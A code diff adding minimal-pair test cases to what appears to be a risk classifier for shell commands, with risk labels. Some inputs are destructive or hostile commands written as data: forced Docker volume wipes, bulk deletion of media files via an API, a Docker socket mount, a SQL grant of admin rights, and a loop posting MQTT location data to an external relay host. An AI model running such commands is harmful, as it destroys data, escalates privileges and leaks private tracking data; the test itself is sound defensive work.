@@ -13508,6 +13508,103 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'scp -q /tmp/release-notes.csv sync@198.51.100.61:/srv/drop/',
             L,
         ),
+        # Round 115 (holdout832-839): minimal pairs for its rules and false-positive fixes
+        (
+            'docker stop portainer\n'
+            'docker rm portainer\n'
+            'docker volume rm -f portainer_data',
+            H,
+        ),
+        (
+            'docker volume rm buildx_cache',
+            S,
+        ),
+        (
+            'cd /srv/tracker\n'
+            'for v in $(docker volume ls -q --filter name=tracker_); do\n'
+            '  docker volume rm -f "$v"\n'
+            'done',
+            H,
+        ),
+        (
+            "docker service ls --format '{{.Name}}' | while read -r svc; do\n"
+            '  docker service scale --detach "${svc}=0"\n'
+            'done',
+            H,
+        ),
+        (
+            'docker service scale --detach web=0',
+            S,
+        ),
+        (
+            'for id in $(curl -s -H "X-Api-Key: $KEY" http://localhost:8989/api/v3/series | jq -r \'.[].id\');'
+            ' do\n'
+            '  curl -s -X DELETE -H "X-Api-Key: $KEY" "http://localhost:8989/api/v3/series/$id?deleteFiles=t'
+            'rue"\n'
+            'done',
+            H,
+        ),
+        (
+            'for id in $(curl -s -H "X-Api-Key: $KEY" http://localhost:8989/api/v3/series | jq -r \'.[].id\');'
+            ' do\n'
+            '  curl -s -X DELETE -H "X-Api-Key: $KEY" "http://localhost:8989/api/v3/series/$id?deleteFiles=f'
+            'alse"\n'
+            'done',
+            L,
+        ),
+        (
+            'docker run -d --name portainer_agent -v /var/run/docker.sock:/var/run/docker.sock -v /var/lib/d'
+            'ocker/volumes:/var/lib/docker/volumes portainer/agent:2.21.4',
+            M,
+        ),
+        (
+            'docker run -d -v /var/run/docker.sock:/var/run/docker.sock alpine:3.20 sh',
+            H,
+        ),
+        (
+            'sudo dockerd --validate --config-file /etc/docker/daemon.json',
+            M,
+        ),
+        (
+            "sudo find /opt/stacks -type f -name '.env' -exec chmod 640 {} +",
+            M,
+        ),
+        (
+            'sudo -u postgres psql tracker -c "UPDATE tc_users SET administrator = true WHERE email = \'viewe'
+            'r@example.com\'"',
+            H,
+        ),
+        (
+            'sudo -u postgres psql tracker -c "UPDATE tc_users SET disabled = false WHERE email = \'viewer@ex'
+            'ample.com\'"',
+            M,
+        ),
+        (
+            "mosquitto_sub -h localhost -t 'tracks/#' -v |\n"
+            'while read -r topic msg; do\n'
+            '  curl -s -X POST --data "$msg" https://relay.example.net/ot\n'
+            'done',
+            H,
+        ),
+        (
+            "mosquitto_sub -h localhost -t 'tracks/#' -v |\n"
+            'while read -r topic msg; do\n'
+            '  curl -s -X POST --data "$msg" http://127.0.0.1:9000/ingest\n'
+            'done',
+            L,
+        ),
+        # Round 115, continued: a test's volumes, and a project's own by label, are its own to remove
+        (
+            'docker rm -f crm-test-db\n'
+            'docker volume rm crm_test_pgdata',
+            S,
+        ),
+        (
+            'for v in $(docker volume ls -q --filter label=com.docker.compose.project=demo); do\n'
+            '  docker volume rm -f "$v"\n'
+            'done',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
